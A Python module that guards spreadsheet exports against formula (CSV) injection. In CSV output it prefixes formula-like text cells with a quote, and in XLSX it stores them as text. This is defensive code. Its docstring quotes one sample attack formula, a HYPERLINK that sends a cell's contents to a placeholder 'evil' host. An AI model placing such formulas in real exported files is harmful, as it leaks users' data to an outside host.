"""Spreadsheet cells that are safe to open: text never becomes a formula.

A place name, a partner name or a planner's note that starts with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return is read as a formula by Excel, LibreOffice and Google Sheets when
the CSV is opened (``=HYPERLINK("http://evil/?"&A1, "click")`` sends the row away), and
openpyxl stores such a string as a formula in an XLSX workbook. The OWASP rule for CSV
injection is applied to **text cells only** (numbers such as ``-3.2`` stay numbers):

- CSV: the cell is prefixed with ``'`` (spreadsheets show the text as it was; a script that
  reads the CSV sees the quote, documented in README); carriage returns inside text become
  line feeds, because Python's CSV writer does not quote a lone carriage return and every
  reader would take it for the end of the row;
- XLSX: the cell is stored as text (``t="s"``), its value unchanged.

A text cell that is a plain number (``"-3.2"`` in a text column) is left as it is: it is a
number to a spreadsheet too, not a formula.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

__all__ = ["FORMULA_START", "csv_safe", "is_formula_text", "xlsx_text_cells"]

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d[\d,]*(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")


def is_formula_text(value: Any) -> bool:
    """True for text a spreadsheet would run as a formula.

    Examples
    --------
    >>> is_formula_text('=HYPERLINK("http://x")'), is_formula_text("@SUM(A1)")
    (True, True)
    >>> is_formula_text("-3.2"), is_formula_text("Fairfax"), is_formula_text(-3.2)
    (False, False, False)
    """
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_START)
        and not _PLAIN_NUMBER.fullmatch(value)
    )


def csv_safe(table: pd.DataFrame) -> pd.DataFrame:
    """`table` with every formula-like text cell prefixed with ``'`` (a copy when needed).

    Examples
    --------
    >>> import pandas as pd
    >>> t = pd.DataFrame({"NAME": ["=1+1", "Fairfax", "-3"], "score": [-3.2, 1.0, 2.0]})
    >>> csv_safe(t)["NAME"].tolist(), csv_safe(t)["score"].tolist()
    (["'=1+1", 'Fairfax', '-3'], [-3.2, 1.0, 2.0])
    """
    out = table
    for col in table.columns:
        values = table[col]
        if not (pd.api.types.is_object_dtype(values) or pd.api.types.is_string_dtype(values)):
            continue
        risky = values.map(is_formula_text).astype(bool)
        breaks = values.map(lambda v: isinstance(v, str) and "\r" in v).astype(bool)
        if risky.any() or breaks.any():
            if out is table:
                out = table.copy()
            quoted = [
                ("'" if r else "") + v.replace("\r\n", "\n").replace("\r", "\n") if r or b else v
                for v, r, b in zip(values.tolist(), risky, breaks, strict=True)
            ]
            out[col] = pd.Series(quoted, index=values.index, dtype=values.dtype)
    return out


def xlsx_text_cells(worksheet: Any) -> int:
    """Store every formula-like text cell of an openpyxl `worksheet` as text; how many.

    openpyxl turns any string starting with ``=`` into a formula; this sets such cells back
    to text (``data_type = "s"``) with their value unchanged.
    """
    n = 0
    for row in worksheet.iter_rows():
        for cell in row:
            if cell.data_type == "f" or is_formula_text(cell.value):
                cell.data_type = "s"
                n += 1
    return n
